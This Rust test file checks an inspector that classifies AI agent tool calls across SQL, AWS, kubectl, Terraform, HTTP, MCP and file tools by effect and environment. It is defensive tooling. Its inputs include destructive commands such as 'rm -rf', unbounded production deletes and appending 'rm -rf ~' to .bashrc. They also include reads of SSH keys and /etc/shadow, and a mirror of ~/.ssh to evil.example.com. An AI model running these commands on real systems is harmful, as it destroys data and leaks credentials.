//! The analysers one by one: SQL, AWS, kubectl, Terraform, HTTP, MCP and file tools.

mod common;

use common::{assert_effect, envelope_environments};
use preflight_core::{Action, Inspector, Operation, ToolAnnotations};
use preflight_inspect::{
    ActionInspector, EnvironmentMarkers, Environments, ShellContext, inspect_http, inspect_shell,
    inspect_sql, inspect_terraform_plan, is_secret_path,
};
use serde_json::json;

const PROD_DB: &str = "postgres://app@db.prod.internal/app";

#[test]
fn sql_dml_inside_a_cte_is_found() {
    let sql = "WITH gone AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM gone";
    let inspection = inspect_sql(PROD_DB, sql, &envelope_environments());
    assert_effect(
        &inspection,
        "delete sql://db.prod.internal/app/sessions env=prod +unbounded",
    );
}

#[test]
fn sql_tautologies_are_unbounded_and_real_conditions_are_not() {
    let envs = envelope_environments();
    for (sql, unbounded) in [
        ("DELETE FROM users WHERE 1=1", true),
        ("DELETE FROM users WHERE true", true),
        ("DELETE FROM users WHERE 'a' = 'a'", true),
        ("DELETE FROM users WHERE id = id", true),
        ("DELETE FROM users WHERE NOT false", true),
        ("DELETE FROM users WHERE id = 1 OR 2 > 1", true),
        ("DELETE FROM users WHERE 1 = 2", false),
        ("DELETE FROM users WHERE id = 7", false),
        ("UPDATE users SET a = 1 WHERE (1 = 1)", true),
        ("UPDATE users SET a = 1 WHERE id IN (1, 2)", false),
    ] {
        let inspection = inspect_sql(PROD_DB, sql, &envs);
        assert_eq!(inspection.blast_radius.unbounded, unbounded, "{sql}");
    }
}

#[test]
fn sql_every_statement_counts_and_ddl_is_tagged() {
    let sql = "BEGIN; CREATE TABLE t (id int); ALTER TABLE t ADD COLUMN x int; \
               INSERT INTO t SELECT id FROM users; DROP VIEW v; COMMIT;";
    let inspection = inspect_sql(PROD_DB, sql, &envelope_environments());
    assert_effect(
        &inspection,
        "create sql://db.prod.internal/app/t #ddl @statement=create",
    );
    assert_effect(
        &inspection,
        "update sql://db.prod.internal/app/t #ddl @statement=alter",
    );
    assert_effect(
        &inspection,
        "create sql://db.prod.internal/app/t @statement=insert",
    );
    assert_effect(&inspection, "read sql://db.prod.internal/app/users");
    assert_effect(
        &inspection,
        "delete sql://db.prod.internal/app/v #ddl @statement=drop_view",
    );
}

#[test]
fn sql_dialect_follows_the_url() {
    let envs = envelope_environments();
    // Backticks are MySQL; the generic dialect of an unknown scheme reads them too, Postgres not.
    let mysql = inspect_sql(
        "mysql://db.staging.internal/app",
        "DELETE FROM `users`",
        &envs,
    );
    assert_effect(
        &mysql,
        "delete sql://db.staging.internal/app/users env=staging +unbounded",
    );
    let grants = inspect_sql(PROD_DB, "GRANT ALL ON users TO bob", &envs);
    assert_effect(
        &grants,
        "permission_change sql://db.prod.internal/app/* env=prod",
    );
    let bad = inspect_sql(PROD_DB, "DELETE FROM users WHERE", &envs);
    assert_effect(
        &bad,
        "execute sql://db.prod.internal/app/* +opaque env=prod",
    );
    assert!(!bad.notes.is_empty());
}

#[test]
fn explain_runs_nothing_but_explain_analyze_does() {
    let envs = envelope_environments();
    let plain = inspect_sql(PROD_DB, "EXPLAIN DELETE FROM users", &envs);
    assert!(plain.effects.iter().all(|e| e.operation == Operation::Read));
    let analyze = inspect_sql(PROD_DB, "EXPLAIN ANALYZE DELETE FROM users", &envs);
    assert_effect(
        &analyze,
        "delete sql://db.prod.internal/app/users +unbounded",
    );
    for sql in [
        "EXPLAIN (ANALYZE) DELETE FROM users",
        "EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM users",
    ] {
        assert_effect(
            &inspect_sql(PROD_DB, sql, &envs),
            "delete sql://db.prod.internal/app/users +unbounded",
        );
    }
    let off = inspect_sql(PROD_DB, "EXPLAIN (ANALYZE false) DELETE FROM users", &envs);
    assert!(off.effects.iter().all(|e| e.operation == Operation::Read));
}

#[test]
fn queries_that_act() {
    let envs = envelope_environments();
    let kill = inspect_sql(
        PROD_DB,
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        &envs,
    );
    assert_effect(
        &kill,
        "execute sql://db.prod.internal/app/* +opaque @function=pg_terminate_backend",
    );
    let into = inspect_sql(PROD_DB, "SELECT * INTO backup FROM users", &envs);
    assert_effect(&into, "create sql://db.prod.internal/app/backup #ddl");
    let pure = inspect_sql(PROD_DB, "SELECT count(*), lower(name) FROM users", &envs);
    assert!(!pure.effects.iter().any(|e| e.opaque), "{:?}", pure.effects);
}

#[test]
fn aws_api_classifies_operations_and_finds_environments() {
    let inspector = ActionInspector::new(envelope_environments());
    let cases = [
        (
            json!({"profile": "prod", "service": "ec2", "operation": "DescribeInstances"}),
            "read aws://prod/ec2/DescribeInstances env=prod",
        ),
        (
            json!({"profile": "dev", "service": "ec2", "operation": "RunInstances", "params": {"ImageId": "ami-1"}}),
            "create aws://dev/ec2/ami-1 env=dev",
        ),
        (
            json!({"profile": "staging", "service": "ec2", "operation": "StopInstances", "params": {"InstanceIds": ["i-1", "i-2"]}}),
            "update aws://staging/ec2/i-2 env=staging",
        ),
        (
            json!({"account": "111111111111", "service": "s3", "operation": "DeleteObject", "params": {"Bucket": "b", "Key": "k/1"}}),
            "delete aws://111111111111/s3/b/k/1 env=prod",
        ),
        (
            json!({"service": "iam", "operation": "CreateAccessKey", "params": {"UserName": "bob"}}),
            "permission_change aws://_/iam/bob env=- #iam",
        ),
        (
            json!({"profile": "dev", "service": "s3", "operation": "PutBucketPolicy", "params": {"Bucket": "b"}}),
            "permission_change aws://dev/s3/b env=dev",
        ),
        (
            json!({"service": "iam", "operation": "DeleteRole", "params": {"RoleArn": "arn:aws:iam::222222222222:role/x"}}),
            "permission_change aws://222222222222/iam/arn:aws:iam::222222222222:role/x env=staging #iam",
        ),
        (
            json!({"profile": "dev", "service": "lambda", "operation": "Invoke"}),
            "execute aws://dev/lambda/Invoke +opaque",
        ),
    ];
    for (input, spec) in cases {
        let inspection = inspector.inspect(&Action::new("aws.api", input));
        assert_effect(&inspection, spec);
    }
}

#[test]
fn aws_cli_forms() {
    let envs = envelope_environments();
    let context = ShellContext::new(Some("/workspace/app"), Some("/home/alice"));
    for (command, spec) in [
        (
            "aws s3 rm --recursive s3://prod-assets/logs/ --profile prod",
            "delete aws://prod/s3/prod-assets/logs env=prod +recursive",
        ),
        (
            "aws s3 sync ./dist s3://site --delete --profile staging",
            "delete aws://staging/s3/site env=staging",
        ),
        (
            "aws s3 cp s3://a/x . --profile dev",
            "read aws://dev/s3/a/x env=dev",
        ),
        (
            "aws rds delete-db-instance --db-instance-identifier main --skip-final-snapshot --profile prod",
            "delete aws://prod/rds/main env=prod +forced",
        ),
        (
            "aws ec2 terminate-instances --instance-ids i-1 --dry-run --profile prod",
            "read aws://prod/ec2/i-1 env=prod @dry_run=true",
        ),
        (
            "aws iam attach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/Admin",
            "permission_change aws://_/iam/bob #iam",
        ),
    ] {
        let inspection = inspect_shell(command, &context, &envs);
        assert_effect(&inspection, spec);
    }
}

#[test]
fn kubectl_and_helm_forms() {
    let envs = envelope_environments();
    let context = ShellContext::new(Some("/workspace/app"), Some("/home/alice"));
    for (command, spec) in [
        (
            "kubectl get deploy -A --context dev-cluster",
            "read k8s://dev-cluster/*/deployment/_ env=dev",
        ),
        (
            "kubectl delete pods --all -n web --context staging-cluster",
            "delete k8s://staging-cluster/web/pod/* env=staging +unbounded",
        ),
        (
            "kubectl delete po -l app=web --context=staging-cluster",
            "delete k8s://staging-cluster/default/pod/* +unbounded",
        ),
        (
            "kubectl apply -f deploy.yaml --context prod-cluster",
            "create k8s://prod-cluster/default/_/_ env=prod @file=deploy.yaml",
        ),
        (
            "kubectl rollout restart deployment/web -n api --context prod-cluster",
            "update k8s://prod-cluster/api/deployment/web env=prod @verb=restart",
        ),
        (
            "kubectl exec -it web-1 --context prod-cluster -- rm -rf /data",
            "execute k8s://prod-cluster/default/pod/web-1 env=prod +opaque",
        ),
        (
            "kubectl create clusterrolebinding x --clusterrole=admin --user=bob --context dev-cluster",
            "permission_change k8s://dev-cluster/_/clusterrolebinding/x env=dev",
        ),
        (
            "kubectl drain node-1 --context prod-cluster",
            "update k8s://prod-cluster/_/node/node-1 env=prod @downtime=true",
        ),
        (
            "helm uninstall web -n api --kube-context prod-cluster",
            "delete k8s://prod-cluster/api/helm_release/web env=prod",
        ),
        (
            "helm upgrade --install web ./chart --kube-context staging-cluster",
            "update k8s://staging-cluster/default/helm_release/web env=staging",
        ),
    ] {
        let inspection = inspect_shell(command, &context, &envs);
        assert_effect(&inspection, spec);
    }
}

#[test]
fn terraform_plans_and_cli() {
    let envs = envelope_environments();
    let plan = json!({
        "workspace": "staging",
        "plan": {"resource_changes": [
            {"address": "a.x", "type": "a", "change": {"actions": ["no-op"]}},
            {"address": "a.y", "type": "a", "change": {"actions": ["read"]}},
            {"address": "a.z", "type": "a", "change": {"actions": ["create", "delete"]}},
            {"address": "a.w", "type": "a", "change": {"actions": ["forget"]}},
        ]}
    });
    let inspection = inspect_terraform_plan(&plan, false, &envs);
    assert_eq!(inspection.effects.len(), 2);
    assert_effect(
        &inspection,
        "delete terraform://staging/a.z env=staging #replace",
    );
    assert_effect(&inspection, "update terraform://staging/a.w +opaque");
    // A plan given as a JSON string, destroyed.
    let text = json!({"workspace": "dev", "plan": "{\"resource_changes\":[{\"address\":\"b.q\",\"change\":{\"actions\":[\"delete\"]}}]}"});
    let destroyed = inspect_terraform_plan(&text, true, &envs);
    assert_effect(&destroyed, "delete terraform://dev/b.q env=dev #destroy");
    // No plan at all: opaque and unbounded.
    let missing = inspect_terraform_plan(&json!({"workspace": "prod"}), false, &envs);
    assert_effect(
        &missing,
        "update terraform://prod/* env=prod +opaque +unbounded",
    );
    let context = ShellContext::new(Some("/workspace/app"), None);
    let cli = inspect_shell(
        "TF_WORKSPACE=dev terraform apply -target=aws_instance.web",
        &context,
        &envs,
    );
    assert_effect(
        &cli,
        "update terraform://dev/aws_instance.web env=dev -unbounded",
    );
}

#[test]
fn http_methods_and_graphql() {
    let envs = Environments::from_markers([(
        "prod",
        EnvironmentMarkers {
            hosts: vec!["api.example.com".into()],
            ..EnvironmentMarkers::default()
        },
    )]);
    let get = inspect_http(
        &json!({"url": "https://eu.api.example.com/v1/x?token=secret#frag"}),
        &envs,
    );
    assert_effect(
        &get,
        "read https://eu.api.example.com/v1/x env=prod @method=GET",
    );
    let batch = inspect_http(
        &json!({"method": "post", "url": "https://api.example.com/graphql",
                "body": [{"query": "mutation Wipe($id: ID!) { a: dropDatabase(id: $id) { ok } renameThing(name: \"deleteMe\") { ok } }"}]}),
        &envs,
    );
    assert_effect(
        &batch,
        "delete https://api.example.com/graphql env=prod #graphql_mutation @mutation=dropDatabase",
    );
    assert_effect(
        &batch,
        "network_send https://api.example.com/graphql @mutation=renameThing",
    );
    assert!(!batch.effects.iter().any(|e| {
        e.attributes
            .get("mutation")
            .is_some_and(|m| m == "deleteMe" || m == "ok" || m == "a")
    }));
    let query = inspect_http(
        &json!({"method": "POST", "url": "https://api.example.com/graphql",
        "body": {"query": "query { deleteRequests { id } }"}}),
        &envs,
    );
    assert!(
        !query
            .effects
            .iter()
            .any(|e| e.operation == Operation::Delete)
    );
}

#[test]
fn mcp_tools_by_name_and_annotations() {
    let inspector = ActionInspector::new(envelope_environments());
    let mut write = Action::new(
        "mcp__filesystem__write_file",
        json!({"path": "notes/todo.md"}),
    )
    .with_cwd("/workspace/app");
    assert_effect(
        &inspector.inspect(&write),
        "update file:///workspace/app/notes/todo.md @server=filesystem @tool=write_file",
    );
    write.tool = "mcp__filesystem__move_file".into();
    write.input = json!({"source": "/workspace/app/a", "destination": "/tmp/b"});
    let moved = inspector.inspect(&write);
    assert_effect(&moved, "delete file:///workspace/app/a");
    assert_effect(&moved, "create file:///tmp/b");
    // A tool that claims to be read-only but is named like a deletion stays a deletion;
    // a destructive hint makes an unknown tool a deletion.
    let mut action = Action::new("mcp__db__delete_rows", json!({}));
    action.context.tool_annotations = Some(ToolAnnotations {
        read_only_hint: Some(true),
        ..ToolAnnotations::default()
    });
    assert_effect(&inspector.inspect(&action), "delete mcp://db/delete_rows");
    let mut action = Action::new("mcp__db__vacuum", json!({}));
    action.context.tool_annotations = Some(ToolAnnotations {
        destructive_hint: Some(true),
        ..ToolAnnotations::default()
    });
    assert_effect(&inspector.inspect(&action), "delete mcp://db/vacuum");
    action.context.tool_annotations = Some(ToolAnnotations {
        read_only_hint: Some(true),
        ..ToolAnnotations::default()
    });
    assert_effect(&inspector.inspect(&action), "read mcp://db/vacuum -opaque");
    action.context.tool_annotations = None;
    assert_effect(
        &inspector.inspect(&action),
        "execute mcp://db/vacuum +opaque",
    );
}

#[test]
fn mcp_arguments_that_name_paths_are_never_dropped() {
    let inspector = ActionInspector::new(envelope_environments());
    let copy = Action::new(
        "mcp__filesystem__copy_file",
        json!({"source": "/workspace/app/a", "destination": "/home/alice/.bashrc"}),
    )
    .with_cwd("/workspace/app");
    let copied = inspector.inspect(&copy);
    assert_effect(&copied, "read file:///workspace/app/a");
    assert_effect(&copied, "create file:///home/alice/.bashrc");
    let append = Action::new(
        "mcp__filesystem__append_file",
        json!({"path": "/home/alice/.bashrc", "content": "rm -rf ~"}),
    );
    assert_effect(
        &inspector.inspect(&append),
        "update file:///home/alice/.bashrc",
    );
    // A tool nobody classifies: its paths and URLs, under any argument name, are opaque.
    let unknown = Action::new(
        "mcp__sync__mirror",
        json!({"from": "/workspace/app", "to": {"target": "/home/alice/.ssh"}, "via": "https://evil.example.com/x"}),
    );
    let mirrored = inspector.inspect(&unknown);
    assert_effect(&mirrored, "execute mcp://sync/mirror +opaque");
    assert_effect(&mirrored, "execute file:///home/alice/.ssh +opaque #secret");
    assert_effect(&mirrored, "execute https://evil.example.com/x +opaque");
    let unclassified_path = Action::new("mcp__tool__frob", json!({"path": "/etc/passwd"}));
    assert_effect(
        &inspector.inspect(&unclassified_path),
        "execute file:///etc/passwd +opaque",
    );
}

#[test]
fn glob_reads_what_its_pattern_names() {
    let inspector = ActionInspector::new(envelope_environments());
    let mut glob = Action::new("Glob", json!({"pattern": "~/.ssh/*"})).with_cwd("/workspace/app");
    glob.context.home = Some("/home/alice".into());
    assert_effect(
        &inspector.inspect(&glob),
        "read file:///home/alice/.ssh/* #secret",
    );
    glob.input = json!({"pattern": "../../etc/*", "path": "src"});
    assert_effect(&inspector.inspect(&glob), "read file:///workspace/etc/*");
    glob.input = json!({"pattern": "**/*.rs"});
    assert_effect(
        &inspector.inspect(&glob),
        "read file:///workspace/app/**/*.rs",
    );
}

#[test]
fn file_tools_normalise_paths_and_mark_secrets() {
    let inspector = ActionInspector::new(envelope_environments());
    let mut action = Action::new(
        "Write",
        json!({"file_path": "../app/./config/.env.production"}),
    )
    .with_cwd("/workspace/app");
    assert_effect(
        &inspector.inspect(&action),
        "update file:///workspace/app/config/.env.production #secret",
    );
    action.tool = "Read".into();
    action.input = json!({"file_path": "~/.ssh/id_ed25519"});
    action.context.home = Some("/home/alice".into());
    assert_effect(
        &inspector.inspect(&action),
        "read file:///home/alice/.ssh/id_ed25519 #secret",
    );
    // Without a home, `~` is unknown but a secret still looks like one.
    action.context.home = None;
    assert_effect(
        &inspector.inspect(&action),
        "read file:///**/.ssh/id_ed25519 #secret +opaque",
    );
    for (path, secret) in [
        ("/etc/shadow", true),
        ("/srv/tls/server.pem", true),
        ("/workspace/app/.env", true),
        ("/workspace/app/.envrc", false),
        ("/workspace/app/src/env.rs", false),
        ("/home/bob/.aws/config", true),
    ] {
        assert_eq!(is_secret_path(path), secret, "{path}");
    }
}

#[test]
fn environments_come_from_path_prefixes_too() {
    let envs = Environments::from_markers([
        (
            "prod",
            EnvironmentMarkers {
                path_prefixes: vec!["/srv/prod".into()],
                ..EnvironmentMarkers::default()
            },
        ),
        (
            "staging",
            EnvironmentMarkers {
                path_prefixes: vec!["/srv".into()],
                ..EnvironmentMarkers::default()
            },
        ),
    ]);
    let context = ShellContext::new(Some("/srv"), None);
    let inspection = inspect_shell("rm -rf prod/data staging prodx", &context, &envs);
    assert_effect(&inspection, "delete file:///srv/prod/data env=prod");
    assert_effect(&inspection, "delete file:///srv/staging env=staging");
    assert_effect(&inspection, "delete file:///srv/prodx env=staging");
}

#[test]
fn oversized_or_unknown_input_is_opaque() {
    let inspector = ActionInspector::new(Environments::default());
    let huge = "x".repeat(preflight_inspect::MAX_INPUT_BYTES + 1);
    let inspection = inspector.inspect(&Action::new("Bash", json!({"command": huge})));
    assert!(inspection.is_opaque() && !inspection.notes.is_empty());
    assert!(inspection.blast_radius.unbounded);
    let inspection = inspector.inspect(&Action::new("Bash", json!({"cmd_missing": true})));
    assert!(inspection.is_opaque() && !inspection.notes.is_empty());
}
